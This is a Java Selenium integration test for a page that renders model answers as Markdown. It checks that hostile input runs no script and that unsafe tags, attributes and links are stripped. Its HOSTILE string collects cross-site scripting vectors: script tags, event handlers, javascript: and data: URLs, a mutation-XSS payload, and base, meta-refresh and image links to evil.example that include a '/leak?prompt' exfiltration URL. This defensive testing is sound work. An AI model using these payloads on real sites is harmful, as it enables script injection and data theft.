/*
 * Copyright 2026-present the original author or authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

package io.github.ollamagenerate.sample;

import java.util.List;

import io.github.ollamagenerate.test.MockAnswer;
import io.github.ollamagenerate.test.MockOllamaServer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.openqa.selenium.Keys;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Answers are Markdown, of which no script runs.
 */
@RequiresBrowser
@Timeout(60)
class PageMarkdownIT {

	private static final String HOSTILE = """
			<script>window.hacked = 1</script>

			<img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"><script>window.hacked = 4</script></svg>

			<iframe srcdoc="<script>parent.hacked = 5</script>"></iframe>

			[one](javascript:window.hacked=6) [two](JaVaScRiPt&colon;window.hacked=7) [three](data:text/html,<script>1</script>)
			<javascript:window.hacked=8> [four](vbscript:x) [five](/generations/x "a" onmouseover="window.hacked=9")

			[six]: javascript:window.hacked=10
			[six] ![seven](x"onerror="window.hacked=11) ![eight](https://evil.example/leak?prompt)

			<a href="javascript:window.hacked=12" id="send" name="form">nine</a> <form action="/x"><button>ten</button></form>

			<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=13&gt;">

			<style>body { display: none }</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">

			```html"><script>window.hacked = 14</script>
			<script>window.hacked = 15</script>
			```

			| <img src=x onerror=window.hacked=16> | b |
			|---|---|
			| `<script>` | <details open ontoggle=window.hacked=17> |

			[ok](https://ollama.com/library)""";

	private static final String FENCE = "```";

	private final SamplePage page;

	private final MockOllamaServer ollama;

	private final Browser browser;

	PageMarkdownIT(SamplePage page) {
		this.page = page;
		this.ollama = page.ollama();
		this.browser = page.browser();
	}

	private void answer(String text) {
		this.page.open(1280, "light");
		this.ollama.enqueue(MockAnswer.tokens(text.split("(?<=\\G.{7})", -1)));
		this.page.submit();
		this.page.awaitText("facts", "Total");
	}

	@Test
	void noScriptOfAnAnswerRuns() {
		answer(HOSTILE);
		// what a user could do by accident
		this.browser.run("document.querySelectorAll('#answer *').forEach((each) => {"
				+ "if (!each.href?.startsWith('http')) { each.click(); } each.dispatchEvent(new Event('mouseover')); })");
		assertThat(this.browser.run("return window.hacked ?? 'safe'")).isEqualTo("safe");
		assertThat(
				list("""
						return [...new Set([...document.querySelectorAll("#answer *")].map((each) => each.localName))].sort()"""))
			.isSubsetOf("a", "button", "code", "div", "p", "pre", "span", "table", "tbody", "td", "th", "thead", "tr");
		assertThat(
				list("""
						return [...new Set([...document.querySelectorAll("#answer *")].flatMap((each) => each.getAttributeNames()))].sort()"""))
			.isSubsetOf("aria-label", "class", "dir", "href", "rel", "tabindex", "target", "title", "type");
		assertThat(list("""
				return [...document.querySelectorAll("#answer a[href]")].map((each) => each.getAttribute("href"))"""))
			.allMatch((href) -> href.startsWith("https://"))
			.contains("https://ollama.com/library");
		// the sanitizer left nothing for the policy to block
		assertThat(this.browser.errors()).isEmpty();
	}

	private List<String> list(String script) {
		return ((List<?>) this.browser.run(script)).stream().map(String::valueOf).toList();
	}

	@Test
	void pageItselfCannotSetHtml() {
		this.page.open(1280, "light");
		assertThat(this.browser.run("""
				try {
					document.getElementById("answer").innerHTML = "<b>bold</b>";
					return "set";
				}
				catch (error) {
					return error.name;
				}""")).isEqualTo("TypeError");
		assertThat(this.browser.run("""
				try {
					const script = document.createElement("script");
					script.textContent = "window.hacked = 1";
					document.body.append(script);
				}
				catch {
				}
				return window.hacked ?? 'safe';""")).isEqualTo("safe");
	}

	@Test
	void markdownIsRendered() {
		answer("# Sky\n\nIt is **blue**:\n\n- one\n- two\n\n" + FENCE + "java\nint a = 1 < 2;\n" + FENCE
				+ "\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n1 < 2 & [link][l]\n\n[l]: https://ollama.com");
		assertThat(this.browser.elements("#answer h1, #answer strong, #answer li, #answer td[align=right]")).hasSize(5);
		assertThat(this.browser.elements("#answer .code-block pre").get(0).getText()).isEqualTo("int a = 1 < 2;");
		assertThat(this.browser.elements("#answer .code-head span").get(0).getText()).isEqualTo("java");
		assertThat(this.browser.elements("#answer a[href='https://ollama.com'][rel~=noopener]")).hasSize(1);
		assertThat(this.browser.text("answer")).contains("1 < 2 & link");
		assertThat(this.browser.elements("#answer[dir=auto]")).hasSize(1);
		this.browser.elements("#answer .copy").get(0).click();
		this.page.await().until(() -> this.browser.elements("#answer .copy").get(0).getText().equals("Copied"));
		assertThat(pasted()).isEqualTo("int a = 1 < 2;\n");
		this.browser.elements(".result-head .copy").get(0).click();
		this.page.await().until(() -> this.browser.elements(".result-head .copy").get(0).getText().equals("Copied"));
		assertThat(pasted()).isEqualTo("# Sky\n\nIt is **blue**");
	}

	private String pasted() {
		this.page.fill("prompt", "");
		this.browser.element("prompt").sendKeys(Keys.chord(Keys.CONTROL, "v"));
		String text = this.browser.element("prompt").getDomProperty("value");
		return text.startsWith("#") ? text.substring(0, text.indexOf(':')) : text;
	}

	@Test
	void answerThatCannotBeParsedIsPlainText() {
		String quotes = ">".repeat(20_000);
		this.page.open(1280, "light");
		this.ollama.enqueue(MockAnswer.tokens("**a** ", "\n\n" + quotes, " <b>"));
		this.page.submit();
		this.page.awaitText("facts", "Total");
		assertThat(this.browser.run("return document.getElementById('answer').textContent"))
			.isEqualTo("**a** \n\n" + quotes + " <b>");
		assertThat(this.browser.element("send").isDisplayed()).isTrue();
	}

	@Test
	void answerInJsonIsNotMarkdown() {
		this.page.open(1280, "light");
		this.page.fill("schema", "{\"type\":\"object\"}");
		this.ollama.enqueue(MockAnswer.tokens("{\"a\":", "\"*b*\"}"));
		this.page.submit();
		this.page.awaitText("answer", "{\"a\":\"*b*\"}");
	}

}
